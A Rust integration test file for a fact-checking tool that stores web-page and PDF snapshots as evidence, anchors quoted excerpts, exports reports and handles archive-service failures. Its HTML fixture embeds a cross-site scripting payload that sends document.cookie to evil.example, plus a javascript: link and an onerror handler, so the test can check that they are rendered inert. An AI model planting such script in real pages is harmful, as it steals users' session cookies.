//! Snapshots and anchored excerpts through the library: storing and
//! reading snapshot files, hostile pages kept inert, Save as copying the
//! evidence folder, the check, the reports and the Web Annotations, and the
//! archive client's failures against a mock on 127.0.0.1.

use std::path::Path;
use std::time::Duration;

use claimdesk::archive::{
    ArchiveClient, ArchiveError, ArchiveOutcome, ArchiveTarget, Endpoint, archive_sources,
};
use claimdesk::evidence::{
    SnapshotState, attach_file, check_evidence, copy_evidence, evidence_dir, read_snapshot_text,
    snapshot_state,
};
use claimdesk::export::{Format, check_report, export_at};
use claimdesk::model::WarningKind;
use claimdesk::model::{ExcerptAnchor, Project, SourceId};
use claimdesk::progress::Progress;

use super::common::{at, sample};
use super::mock_archive::MockArchive;

const PAGE: &str = "<!doctype html><html><head><title>Fact sheet: U.S.–Japan deal</title>\
<meta property=\"og:site_name\" content=\"The White House\">\
<script>document.location='https://evil.example/steal?c='+document.cookie</script></head>\
<body><article><h1>Fact sheet: U.S.–Japan deal</h1>\
<p>The United States and Japan agreed on a framework for investment. Tariffs on most goods fall to 15 percent under the deal, which both governments signed on Tuesday. More talks follow.</p>\
<p>Read <a href=\"javascript:alert(1)\">the annex</a> <img src=\"https://tracker.example/pixel.gif\" onerror=\"alert(2)\"> for details of the shipbuilding cooperation and the LNG purchases agreed.</p>\
</article></body></html>";

fn write(dir: &Path, name: &str, text: &str) -> std::path::PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap_or_else(|e| panic!("{e}"));
    p
}

/// The sample saved in `dir` with a snapshot of `PAGE` on source 2 and
/// claim 1's link to source 2 anchored at "fall to 15 percent".
fn anchored(dir: &Path) -> (std::path::PathBuf, Project, String) {
    let path = dir.join("check.ron");
    let page = write(dir, "page.html", PAGE);
    let prepared = attach_file(&path, &page, "2026-12-05").unwrap_or_else(|e| panic!("{e}"));
    let mut p = sample();
    let text = prepared.text.clone();
    let i = p.source_index(SourceId(2)).unwrap_or(0);
    p.sources[i].snapshots.push(prepared.snapshot.clone());
    let byte = text.find("fall to 15 percent").unwrap_or(0);
    let start = text[..byte].chars().count();
    let anchor = ExcerptAnchor::new(&prepared.snapshot.sha256, &text, start, start + 18)
        .unwrap_or_else(|| panic!("no anchor"));
    let claim = p
        .claims
        .iter_mut()
        .find(|c| c.sources.iter().any(|l| l.source == SourceId(2)))
        .unwrap_or_else(|| panic!("no claim cites source 2"));
    let link = claim
        .sources
        .iter_mut()
        .find(|l| l.source == SourceId(2))
        .unwrap_or_else(|| panic!("no link"));
    link.excerpt = anchor.span.quote.clone();
    link.anchor = Some(anchor);
    claimdesk::io::save_project(&p, &path).unwrap_or_else(|e| panic!("{e}"));
    (path, p, text)
}

#[test]
fn a_snapshot_is_stored_by_hash_and_read_back_as_inert_text() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let (path, p, text) = anchored(dir.path());
    let snap = &p.sources[1].snapshots[0];
    assert_eq!(snap.captured, "2026-12-05");
    assert_eq!(snap.sha256.len(), 64);
    assert!(
        evidence_dir(&path)
            .join(format!("{}.html", snap.sha256))
            .is_file()
    );
    assert_eq!(snapshot_state(&path, snap), SnapshotState::Ok);
    assert_eq!(
        read_snapshot_text(&path, snap).ok().as_deref(),
        Some(text.as_str())
    );
    // What is shown is text: no script, no markup, no javascript: link.
    assert!(text.contains("Tariffs on most goods fall to 15 percent"));
    for bad in [
        "document.cookie",
        "<script",
        "javascript:",
        "<img",
        "onerror",
        "tracker.example",
    ] {
        assert!(!text.contains(bad), "{bad} in {text}");
    }
    let loaded = claimdesk::io::load_project(&path).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(loaded, p);
}

#[test]
fn save_as_copies_the_evidence_and_the_check_notices_gaps() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let (path, p, _) = anchored(dir.path());
    assert!(check_evidence(&p, Some(&path)).is_empty());
    assert!(!check_report(&p).iter().any(|w| matches!(
        &w.kind,
        WarningKind::NotArchived { source, .. } if *source == SourceId(2)
    )));

    let other = dir.path().join("sub").join("copy.ron");
    std::fs::create_dir_all(dir.path().join("sub")).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(copy_evidence(&p, &path, &other).ok(), Some(1));
    assert!(check_evidence(&p, Some(&other)).is_empty());
    assert_eq!(copy_evidence(&p, &path, &other).ok(), Some(0));

    // An excerpt edited by hand after anchoring no longer matches.
    let mut edited = p.clone();
    for c in &mut edited.claims {
        for l in &mut c.sources {
            if l.anchor.is_some() {
                l.excerpt = "Tariffs rise".into();
            }
        }
    }
    let w = check_evidence(&edited, Some(&path));
    assert!(
        matches!(w[..], [ref one] if matches!(one.kind, WarningKind::ExcerptNotInSnapshot { .. })),
        "{w:?}"
    );
    assert!(w[0].to_string().contains("no longer matches its snapshot"));

    // A snapshot whose text lost the quote.
    let mut moved = p.clone();
    for c in &mut moved.claims {
        for l in &mut c.sources {
            if let Some(a) = &mut l.anchor {
                a.span.quote = "rise to 30 percent".into();
                l.excerpt = a.span.quote.clone();
            }
        }
    }
    assert_eq!(check_evidence(&moved, Some(&path)).len(), 1);

    // Missing files are reported, never a load failure.
    std::fs::remove_dir_all(evidence_dir(&path)).unwrap_or_else(|e| panic!("{e}"));
    assert!(claimdesk::io::load_project(&path).is_ok());
    let w = check_evidence(&p, Some(&path));
    assert!(
        matches!(w[0].kind, WarningKind::SnapshotMissing { .. }),
        "{w:?}"
    );
}

#[test]
fn reports_quote_the_excerpt_in_its_sentence_and_list_snapshots() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let (_, mut p, _) = anchored(dir.path());
    p.sources[1].archive_url = "https://web.archive.org/web/20251030101010/https://www.whitehouse.gov/fact-sheets/2025/10/japan".into();
    p.sources[1].archived_on = "2025-10-30".into();
    let sha = p.sources[1].snapshots[0].sha256.clone();
    let md = export_at(&p, Format::Markdown, at()).unwrap_or_else(|e| panic!("{e}"));
    assert!(
        md.contains("  > Tariffs on most goods **fall to 15 percent** under the deal, which both"),
        "{md}"
    );
    assert!(
        md.contains(&format!("Snapshot: 2026-12-05, web page, SHA-256 `{sha}`")),
        "{md}"
    );
    assert!(md.contains("(captured 2025-10-30)"));
    let html = export_at(&p, Format::Html, at()).unwrap_or_else(|e| panic!("{e}"));
    assert!(
        html.contains("Tariffs on most goods <mark>fall to 15 percent</mark> under the deal"),
        "{html}"
    );
    assert!(html.contains(&format!("SHA-256 <code>{sha}</code>")));
    let json = export_at(&p, Format::Annotations, at()).unwrap_or_else(|e| panic!("{e}"));
    let v: serde_json::Value = serde_json::from_str(&json).unwrap_or_default();
    let items = v["first"]["items"].as_array().cloned().unwrap_or_default();
    assert_eq!(v["total"].as_u64(), Some(items.len() as u64));
    let excerpt = items
        .iter()
        .find(|a| a["target"]["source"] == "https://www.whitehouse.gov/fact-sheets/2025/10/japan")
        .unwrap_or_else(|| panic!("no excerpt annotation in {json}"));
    assert_eq!(
        excerpt["target"]["selector"][0]["exact"],
        "fall to 15 percent"
    );
    assert_eq!(
        excerpt["target"]["state"]["sourceDate"],
        "2026-12-05T00:00:00Z"
    );
    super::export_annotations::validate(&p, "anchored");
}

#[test]
fn the_archive_client_names_each_failure() {
    let mock = MockArchive::start(|path| {
        if path.contains("slow.example") {
            (0, vec![], String::new())
        } else if path.contains("refused.example") && path.starts_with("/save") {
            (403, vec![], "blocked by robots.txt".into())
        } else if path.contains("broken.example") {
            (503, vec![], String::new())
        } else if path.contains("garbled.example") {
            (200, vec![], "<html>not json</html>".into())
        } else {
            super::mock_archive::available("x", None)
        }
    });
    let endpoint = Endpoint::parse(&mock.base).unwrap_or_else(|e| panic!("{e}"));
    let client = ArchiveClient::with_timeout(endpoint, Duration::from_secs(1));
    let target = |url: &str| ArchiveTarget {
        source: SourceId(1),
        title: url.into(),
        url: url.into(),
    };
    let results = archive_sources(
        &client,
        [
            "https://slow.example/",
            "https://refused.example/",
            "https://broken.example/",
            "https://garbled.example/",
        ]
        .map(target)
        .to_vec(),
        false,
        false,
        &Progress::new(),
    );
    let errors: Vec<_> = results.into_iter().map(|(_, r)| r).collect();
    assert_eq!(errors[0], Err(ArchiveError::TimedOut));
    assert_eq!(errors[1], Err(ArchiveError::Refused(403)));
    assert_eq!(errors[2], Err(ArchiveError::Unavailable(503)));
    assert!(matches!(errors[3], Err(ArchiveError::BadAnswer(_))));

    // Cancelled before it starts: nothing is asked.
    let before = mock.requests().len();
    let cancelled = archive_sources(
        &client,
        vec![target("https://fine.example/")],
        false,
        false,
        &cancelled_before(),
    );
    assert_eq!(cancelled[0].1, Err(ArchiveError::Cancelled));
    assert_eq!(mock.requests().len(), before);
    let _ = ArchiveOutcome::WouldSave;
}

#[test]
fn a_pdf_snapshot_is_kept_as_the_pdf_and_read_as_its_text() {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let path = dir.path().join("check.ron");
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/pdf");
    let prepared = attach_file(&path, &fixtures.join("footnotes.pdf"), "2026-12-05")
        .unwrap_or_else(|e| panic!("{e}"));
    let snap = &prepared.snapshot;
    assert_eq!(snap.kind_label(), "PDF");
    let stored = evidence_dir(&path).join(format!("{}.pdf", snap.sha256));
    assert_eq!(
        std::fs::read(&stored).ok(),
        std::fs::read(fixtures.join("footnotes.pdf")).ok(),
        "the PDF itself is the evidence, byte for byte"
    );
    assert_eq!(snapshot_state(&path, snap), SnapshotState::Ok);
    let text = read_snapshot_text(&path, snap).unwrap_or_else(|e| panic!("{e}"));
    assert!(
        text.contains("planned hip replacements fell to 19 weeks"),
        "{text}"
    );

    // A scan has no text to quote from: refused with the reason, nothing stored.
    let err = attach_file(&path, &fixtures.join("scanned.pdf"), "2026-12-05")
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    assert!(err.contains("text layer"), "{err}");
    let stored: Vec<_> = std::fs::read_dir(evidence_dir(&path))
        .map(|d| d.filter_map(Result::ok).collect())
        .unwrap_or_default();
    assert_eq!(stored.len(), 1);
}

/// A progress whose Cancel was pressed before the work began.
fn cancelled_before() -> Progress {
    let progress = Progress::new();
    progress.cancel();
    progress
}
